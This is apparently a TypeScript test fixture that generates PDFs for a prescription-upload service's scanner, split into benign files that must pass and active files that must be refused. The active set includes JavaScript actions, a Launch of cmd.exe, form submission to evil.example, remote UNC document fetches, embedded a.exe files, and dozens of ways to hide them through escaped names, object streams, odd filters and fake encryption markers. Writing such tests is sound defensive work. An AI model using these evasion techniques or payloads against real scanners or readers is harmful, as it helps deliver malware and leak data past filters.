import { deflateRawSync, deflateSync } from 'node:zlib';
import { JPEG } from '../orders/samples.ts';

/** The bytes of an object of a PDF without its number. */
type PdfObject = string | Buffer;

const bytes = (text: string): Buffer => Buffer.from(text, 'latin1');
const joinBytes = (...parts: PdfObject[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? bytes(part) : part)));

/** Returns a stream with its dictionary, whose length is added. */
const pdfStream = (entries: string, data: PdfObject): Buffer =>
  joinBytes(`<<${entries}/Length ${data.length}>>\nstream\n`, data, '\nendstream');

/** Returns a stream of objects (ISO 32000-1, 7.5.7), compressed as writers do, under ids from 100. */
function objectStream(objects: readonly string[], entries = ''): Buffer {
  const starts: number[] = [];
  let length = 0;
  for (const object of objects) {
    starts.push(length);
    length += object.length + 1;
  }
  const head = `${starts.map((start, index) => `${100 + index} ${start}`).join(' ')} `;
  const data = deflateSync(bytes(head + objects.join('\n')));
  return pdfStream(`/Type/ObjStm/N ${objects.length}/First ${head.length}/Filter/FlateDecode${entries}`, data);
}

const toHexDigits = (data: Buffer): string => `${data.toString('hex')}>`;

/** Encodes in digits of base 85 (ISO 32000-1, 7.4.3). */
function toBase85(data: Buffer): string {
  let written = '';
  for (let at = 0; at < data.length; at += 4) {
    const group = Buffer.alloc(4);
    const length = data.copy(group, 0, at, at + 4);
    const value = group.readUInt32BE(0);
    const digits = [4, 3, 2, 1, 0].map((power) => String.fromCharCode(33 + (Math.floor(value / 85 ** power) % 85)));
    written += value === 0 && length === 4 ? 'z' : digits.slice(0, length + 1).join('');
  }
  return `${written}~>`;
}

const ROW = 7;

/** Returns rows of 7 bytes, each with the predictor of PNG that comes next, from none to Paeth's (PNG specification, 9). */
function toPngRows(data: Buffer): Buffer {
  const whole = Buffer.concat([data, Buffer.alloc((ROW - (data.length % ROW)) % ROW, 32)]);
  const rows: Buffer[] = [];
  for (let start = 0; start < whole.length; start += ROW) {
    const type = (start / ROW) % 5;
    const made = Buffer.alloc(ROW + 1, type);
    for (let at = 0; at < ROW; at++) {
      const left = at === 0 ? 0 : whole.readUInt8(start + at - 1);
      const up = start === 0 ? 0 : whole.readUInt8(start + at - ROW);
      const both = at === 0 || start === 0 ? 0 : whole.readUInt8(start + at - ROW - 1);
      const [toLeft, toUp, toBoth] = [up - both, left - both, left + up - 2 * both].map(Math.abs) as [
        number,
        number,
        number,
      ];
      const paeth = toLeft <= toUp && toLeft <= toBoth ? left : toUp <= toBoth ? up : both;
      const guess = [0, left, up, Math.floor((left + up) / 2), paeth][type] ?? 0;
      made[at + 1] = (whole.readUInt8(start + at) - guess) & 0xff;
    }
    rows.push(made);
  }
  return Buffer.concat(rows);
}

/** Returns the differences of the bytes of each row of 7 (TIFF 6.0, section 14). */
const toTiffRows = (data: Buffer): Buffer =>
  Buffer.from(data.map((byte, at) => (at % ROW === 0 ? byte : (byte - (data[at - 1] ?? 0)) & 0xff)));

/** Ways in which a stream of objects may be encoded, each with the entries that say so. */
const ENCODINGS: readonly (readonly [name: string, entries: string, encode: (data: Buffer) => PdfObject])[] = [
  [
    'with the predictors of PNG',
    '/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 7>>',
    (data) => deflateSync(toPngRows(data)),
  ],
  [
    'with the predictor of TIFF',
    '/Filter[/FlateDecode]/DecodeParms[<</Predictor 2/Columns 7/Colors 1>>]',
    (data) => deflateSync(toTiffRows(data)),
  ],
  ['in hexadecimal digits alone', '/Filter/ASCIIHexDecode', toHexDigits],
  ['in digits of base 85 alone', '/Filter /ASCII85Decode', toBase85],
  [
    'in lines of digits of base 85 around it',
    '/Filter[/ASCII85Decode/FlateDecode]',
    (data) => toBase85(deflateSync(data)).replace(/.{60}/g, '$&\r\n'),
  ],
  [
    'in hexadecimal digits around predictors',
    '/Filter [ /ASCIIHexDecode /FlateDecode ] /DecodeParms [ null << /Predictor 12 /Columns 7 >> ]',
    (data) => toHexDigits(deflateSync(toPngRows(data))),
  ],
  ['compressed twice', '/Filter[/FlateDecode/FlateDecode]', (data) => deflateSync(deflateSync(data))],
  ['in digits of digits of digits', '/Filter[/AHx/A85/Fl]', (data) => toHexDigits(bytes(toBase85(deflateSync(data))))],
  ['under an escaped name of the filter', '/#46ilter/Flate#44ecode', (data) => deflateSync(data)],
  ['as it is', '', (data) => data],
];

/** Returns a stream of one object in an encoding. */
const encodedObjects = (object: string, entries: string, encode: (data: Buffer) => PdfObject): Buffer =>
  pdfStream(`/Type/ObjStm/N 1/First 6${entries}`, encode(bytes(`100 0 ${object}`)));

/** Returns a PDF of these objects, numbered from 1, with a table of their offsets. The first is the catalog. */
function pdfFile(objects: readonly PdfObject[], trailer = ''): Buffer {
  const parts: Buffer[] = [bytes('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  const offsets: number[] = [];
  let at = 15;
  objects.forEach((object, index) => {
    const whole = joinBytes(`${index + 1} 0 obj\n`, object, '\nendobj\n');
    offsets.push(at);
    parts.push(whole);
    at += whole.length;
  });
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  parts.push(
    bytes(
      `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<</Size ${size}/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const PAGES = [
  '<</Type/Pages/Kids[3 0 R]/Count 1>>',
  '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>',
];
const TEXT = 'BT /F1 12 Tf 72 720 Td (Rp. Losartan 50 mg, una cada 12 horas) Tj ET';
const CONTENT = pdfStream('/Filter/FlateDecode', deflateSync(bytes(TEXT)));

/** Returns a PDF of one page whose catalog has these entries, with more objects from number 5. */
export const onePagePdf = (catalog = '', more: readonly PdfObject[] = [], trailer = ''): Buffer =>
  pdfFile([`<</Type/Catalog/Pages 2 0 R${catalog}>>`, ...PAGES, CONTENT, ...more], trailer);

const photo = (data: Buffer) =>
  pdfStream(
    '/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/DCTDecode',
    data,
  );
const XMP = pdfStream(
  '/Type/Metadata/Subtype/XML',
  '<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><pdf:Producer>JavaScript</pdf:Producer></rdf:RDF></x:xmpmeta>',
);

/** PDFs as phones, offices and clinics make them, which must all pass. */
export const HONEST_PDFS: readonly (readonly [name: string, pdf: Buffer])[] = [
  [
    'of a phone that scans pages',
    pdfFile(['<</Type/Catalog/Pages 2 0 R>>', ...PAGES, CONTENT, photo(Buffer.from(JPEG, 'base64'))]),
  ],
  ['with a picture of 2 MB of any bytes', onePagePdf('', [photo(anyBytes(2 * 1024 * 1024))])],
  [
    'of a word processor, with compressed objects, a structure and the page to open',
    onePagePdf(
      '/Lang(es-MX)/StructTreeRoot 100 0 R/MarkInfo<</Marked true>>/OpenAction[3 0 R/XYZ null null 0]/ViewerPreferences<</DisplayDocTitle true>>',
      [
        objectStream([
          '<</Type/StructTreeRoot/RoleMap<<>>>>',
          '<</Producer(Microsoft: Word para Microsoft 365)/Title(JS)>>',
        ]),
        pdfStream('/Type/XRef/W[1 2 1]/Size 7/Filter/FlateDecode', deflateSync(anyBytes(28))),
      ],
    ),
  ],
  [
    'with many compressed objects',
    onePagePdf(
      '',
      Array.from({ length: 40 }, (_, index) =>
        objectStream(Array.from({ length: 200 }, (__, at) => `<</Type/StructElem/S/P/K ${index * at}>>`)),
      ),
    ),
  ],
  [
    'with many compressed objects, whose type is told before them',
    onePagePdf('', [`(${'/ObjStm '.repeat(200)})`, objectStream(['<</Type/StructElem/S/P/K 1>>'])]),
  ],
  [
    'with an address to open',
    onePagePdf('', [
      '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://clinica.example/js/receta?id=7)>>>>',
    ]),
  ],
  [
    'with metadata that name JavaScript',
    onePagePdf('/Metadata 5 0 R', [XMP], '/Info<</Creator(JavaScript PDF)/Producer(EmbeddedFile)>>'),
  ],
  [
    'with a form to fill in',
    onePagePdf('/AcroForm<</Fields[5 0 R]/DA(/Helv 0 Tf 0 g)>>', [
      '<</FT/Tx/T(paciente)/V(Ana)/Type/Annot/Subtype/Widget/Rect[0 0 9 9]>>',
    ]),
  ],
  [
    'with a signature',
    onePagePdf('/AcroForm<</Fields[5 0 R]/SigFlags 3>>', [
      `<</FT/Sig/T(firma)/V<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 9 9 9]/Contents<${'3082'.repeat(40)}>>>>>`,
    ]),
  ],
  [
    'that was changed after it was written',
    joinBytes(
      onePagePdf(),
      '5 0 obj\n<</Type/Annot/Subtype/Text/Contents(visto)>>\nendobj\nxref\n0 0\ntrailer\n<</Size 6/Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF\n',
    ),
  ],
  [
    'that is encrypted against changes',
    onePagePdf(
      '',
      [
        pdfStream('/Type/ObjStm/N 2/First 9/Filter/FlateDecode', anyBytes(300)),
        '<</Filter/Standard/V 2/R 3/P -3904/O(o)/U(u)>>',
      ],
      '/Encrypt 6 0 R',
    ),
  ],
  ...ENCODINGS.map(
    ([how, entries, encode]) =>
      [
        `with objects ${how}`,
        onePagePdf('', [encodedObjects('<</Type/StructElem/S/P/K 1/T(receta)>>', entries, encode)]),
      ] as const,
  ),
  [
    'with a stream of references that has predictors, as writers of today make it',
    onePagePdf('', [
      objectStream(['<</Type/StructElem/S/P/K 1>>']),
      pdfStream(
        '/Type/XRef/W[1 2 1]/Size 7/Root 1 0 R/Filter/FlateDecode/DecodeParms<</Columns 4/Predictor 12>>',
        deflateSync(Buffer.concat([0, 1, 2].map((row) => Buffer.from([2, row, 0, 17, 0])))),
      ),
    ]),
  ],
  [
    'with the length of its objects elsewhere',
    onePagePdf('', [
      bytes(
        objectStream(['<</S/P>>'])
          .toString('latin1')
          .replace(/Length \d+/, 'Length 6 0 R'),
      ),
      '80',
    ]),
  ],
  ['with a comment about encryption', onePagePdf('', ['% trailer <</Encrypt 5 0 R>>\n<<>>'])],
  ['with a text about encryption', onePagePdf('/Lang(/Encrypt)', [objectStream(['<</Title(/Encrypt 5 0 R)>>'])])],
  ['with a picture and a page in the name of JS', onePagePdf('', ['<</T(/JS /EF)/Contents(\\) /EF)>>'])],
  ['that is encrypted, by its stream of references', encryptedByReferences()],
  ['with names that begin as those of scripts', onePagePdf('/JSX 1/JavaScripts 2/LaunchUrl 3/EFG 4/EmbeddedFont 5')],
  [
    'whose text is about scripts',
    pdfFile([
      '<</Type/Catalog/Pages 2 0 R>>',
      ...PAGES,
      pdfStream('', `BT (${'JavaScript, Launch and EmbeddedFiles'}) Tj ET`),
    ]),
  ],
  [
    'of version 1.4 with line breaks of Windows',
    bytes(onePagePdf().toString('latin1').replace('%PDF-1.7', '%PDF-1.4').replaceAll('endobj\n', 'endobj\r\n')),
  ],
];

/** Returns an encrypted PDF that has a stream of references in place of a table. */
function encryptedByReferences(): Buffer {
  const body = joinBytes(
    '%PDF-1.6\n1 0 obj\n',
    pdfStream('/Type/ObjStm/N 2/First 9/Filter/FlateDecode', anyBytes(300)),
    '\nendobj\n',
  );
  const references = pdfStream(
    '/Type/XRef/W[1 2 1]/Size 4/Root 2 0 R/Encrypt 3 0 R/Filter/FlateDecode',
    deflateSync(anyBytes(16)),
  );
  return joinBytes(body, '9 0 obj\n', references, `\nendobj\nstartxref\n${body.length}\n%%EOF\n`);
}

/** Returns bytes that look random and are always the same (mulberry32). */
function anyBytes(length: number): Buffer {
  const made = Buffer.alloc(length);
  let state = 7;
  for (let at = 0; at < length; at++) {
    state = (state + 0x6d2b79f5) | 0;
    const mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    made[at] = (mixed ^ (mixed >>> 14)) & 0xff;
  }
  return made;
}

/** Entries of a catalog, or of what it refers to, by which a PDF does more than show its pages. */
const ACTIVE_ENTRIES: readonly (readonly [name: string, entries: string])[] = [
  ['a script when it is opened', '/OpenAction<</S/JavaScript/JS(app.alert(1))>>'],
  ['a script in hexadecimal digits', '/OpenAction<</S /JavaScript /JS <6170702e616c65727428312921>>>'],
  ['a script by its name', '/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS 9 0 R>>]>>>>'],
  ['a script when it is closed', '/AA<</WC<</S/JavaScript/JS(app.alert(1))>>>>'],
  ['a script of a film', '/OpenAction<</S/Rendition/JS(app.alert(1))>>'],
  ['a program', '/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>'],
  ['a program, in another way of writing', '/OpenAction<<\n/Type/Action\t/S % what to do\n/Launch\r\n/F(calc.exe)>>'],
  ['a form that is sent', '/OpenAction<</S/SubmitForm/F(https://evil.example/)>>'],
  ['a form that is filled in from elsewhere', '/OpenAction<</S/ImportData/F(\\\\\\\\evil\\\\a.fdf)>>'],
  ['another document that is opened', '/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)/D[0/Fit]>>'],
  ['a document inside of it that is opened', '/OpenAction<</S/GoToE/T<</R/C/N(a.pdf)>>>>'],
  ['a file inside of it', '/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>]>>>>'],
  ['a file that a page has', '/AF[<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>]'],
  ['a file behind a pin', '/Annots[<</Subtype/FileAttachment/FS<</F(a.exe)>>>>]'],
  ['a film with a program', '/Annots[<</Subtype/RichMedia/RichMediaContent<<>>>>]'],
  ['a form of its own language', '/AcroForm<</XFA[(template)9 0 R]>>'],
];

const NAMES =
  /\/(JavaScript|JS|Rendition|Launch|SubmitForm|ImportData|GoToR|GoToE|EmbeddedFiles|EF|FileAttachment|RichMedia|XFA)\b/g;
const toHex = (letter: string) => `#${letter.charCodeAt(0).toString(16)}`;
const escapeNames = (entries: string, isEscaped: (index: number) => boolean): string =>
  entries.replace(
    NAMES,
    (_, name: string) => `/${[...name].map((letter, index) => (isEscaped(index) ? toHex(letter) : letter)).join('')}`,
  );

const OBJECTS = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode';

/** Encodes as runs of bytes that differ (7.4.5). */
const runLengths = (data: Buffer): Buffer =>
  Buffer.concat([
    ...Array.from({ length: Math.ceil(data.length / 128) }, (_, index) => {
      const run = data.subarray(index * 128, index * 128 + 128);
      return Buffer.concat([Buffer.from([run.length - 1]), run]);
    }),
    Buffer.from([128]),
  ]);
const unreadable = (entries: string, trailer: string): Buffer =>
  onePagePdf(
    '',
    [encodedObjects(`<<${escapeNames(entries, () => true)}>>`, '/Filter/RunLengthDecode', runLengths)],
    trailer,
  );

/** Encodings that readers undo and the service does not, so that it cannot tell what is in them. */
const UNREADABLE: typeof ENCODINGS = [
  ['in runs', '/Filter/RunLengthDecode', runLengths],
  ['in runs of digits', '/Filter[/ASCIIHexDecode/RunLengthDecode]', (data) => toHexDigits(runLengths(data))],
  ['under a filter that stands elsewhere', '/Filter 9 0 R', (data) => deflateSync(data)],
  ['under two filters by one name', '/Filter/FlateDecode/Filter/ASCIIHexDecode', (data) => deflateSync(data)],
  ['under a short name of the filter', '/F/Fl', (data) => deflateSync(data)],
  [
    'with a predictor of impossible rows',
    '/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 99999999>>',
    (data) => deflateSync(toPngRows(data)),
  ],
  [
    'with parameters that stand elsewhere',
    '/Filter/FlateDecode/DecodeParms 9 0 R',
    (data) => deflateSync(toPngRows(data)),
  ],
];

/** The ways in which such entries may stand in a PDF. */
const PLACES: readonly (readonly [name: string, place: (entries: string) => Buffer])[] = [
  ['in its catalog', (entries) => onePagePdf(entries)],
  ['with a letter of its names escaped', (entries) => onePagePdf(escapeNames(entries, (index) => index === 1))],
  ['with its names escaped', (entries) => onePagePdf(escapeNames(entries, () => true))],
  [
    'with its names escaped in capitals',
    (entries) => onePagePdf(escapeNames(entries, () => true).replace(/#../g, (each) => each.toUpperCase())),
  ],
  ['in compressed objects', (entries) => onePagePdf('', [objectStream(['<<>>', `<<${entries}>>`])])],
  [
    'escaped in compressed objects',
    (entries) => onePagePdf('', [objectStream([`<<${escapeNames(entries, (index) => index % 2 === 0)}>>`])]),
  ],
  [
    'in compressed objects whose type is escaped',
    (entries) =>
      onePagePdf('', [
        bytes(
          objectStream([`<<${entries}>>`])
            .toString('latin1')
            .replace('ObjStm', '#4FbjStm'),
        ),
      ]),
  ],
  [
    'in compressed objects without their checksum',
    (entries) => onePagePdf('', [joinBytes(objectStream([`<<${entries}>>`]).subarray(0, -15), '\nendstream')]),
  ],
  [
    'in compressed objects behind 4 MB of others',
    (entries) => onePagePdf('', [objectStream([`(${' '.repeat(4 * 1024 * 1024)})`, `<<${entries}>>`])]),
  ],
  [
    'in compressed objects behind the end of a stream',
    (entries) => {
      const stored = deflateSync(bytes('9 0 (endstream) '), { level: 0 });
      const more = deflateRawSync(bytes(`<<${entries}>>`));
      // A stored block that is not the last one, and then a compressed one.
      stored[2] = 0;
      return onePagePdf('', [pdfStream(OBJECTS, joinBytes(stored.subarray(0, -4), more, '    '))]);
    },
  ],
  [
    'in the last of 120 streams of objects',
    (entries) =>
      onePagePdf('', [...Array.from({ length: 120 }, () => objectStream(['<<>>'])), objectStream([`<<${entries}>>`])]),
  ],
  [
    'in compressed objects in hexadecimal digits',
    (entries) =>
      onePagePdf('', [
        pdfStream(
          '/Type/ObjStm/N 1/First 5/Filter[/ASCIIHexDecode/FlateDecode]',
          `${deflateSync(bytes(`9 0  <<${entries}>>`)).toString('hex')}>`,
        ),
      ]),
  ],
  ...ENCODINGS.map(
    ([how, encoding, encode]) =>
      [
        `in compressed objects ${how}`,
        (entries: string) =>
          onePagePdf('', [encodedObjects(`<<${escapeNames(entries, () => true)}>>`, encoding, encode)]),
      ] as const,
  ),
  ...UNREADABLE.map(
    ([how, encoding, encode]) =>
      [
        `in compressed objects ${how}`,
        (entries: string) => onePagePdf('', [encodedObjects(`<<${entries}>>`, encoding, encode)]),
      ] as const,
  ),
  [
    'in compressed objects without their type',
    (entries) =>
      onePagePdf('', [
        bytes(
          objectStream([`<<${entries}>>`])
            .toString('latin1')
            .replace('/Type/ObjStm', ''),
        ),
      ]),
  ],
  [
    'in compressed objects behind a text that has no end',
    (entries) => onePagePdf('', ['(', objectStream([`<<${entries}>>`])]),
  ],
  ['in unreadable objects, with a comment about encryption', (entries) => unreadable(entries, '% /Encrypt 5 0 R\n')],
  ['in unreadable objects, with a text about encryption', (entries) => unreadable(entries, '/Info(/Encrypt 5 0 R)')],
  ['in unreadable objects, with an encryption that is none', (entries) => unreadable(entries, '/Encrypt null')],
  [
    'in unreadable objects, with another trailer about encryption',
    (entries) => joinBytes('%PDF-1.7\n% trailer<</Encrypt 5 0 R>>\n', unreadable(entries, '').subarray(9)),
  ],
  [
    'in unreadable objects, with an encryption in the catalog',
    (entries) =>
      onePagePdf('/Encrypt 5 0 R', [encodedObjects(`<<${entries}>>`, '/Filter/RunLengthDecode', runLengths)]),
  ],
  [
    'in what was added later',
    (entries) =>
      joinBytes(
        onePagePdf(),
        `1 0 obj\n<</Type/Catalog/Pages 2 0 R${entries}>>\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`,
      ),
  ],
];

/** PDFs that do something by themselves, which must all be refused. */
export const ACTIVE_PDFS: readonly (readonly [name: string, pdf: Buffer])[] = ACTIVE_ENTRIES.flatMap(
  ([what, entries]) => PLACES.map(([where, place]) => [`${what}, ${where}`, place(entries)] as const),
);
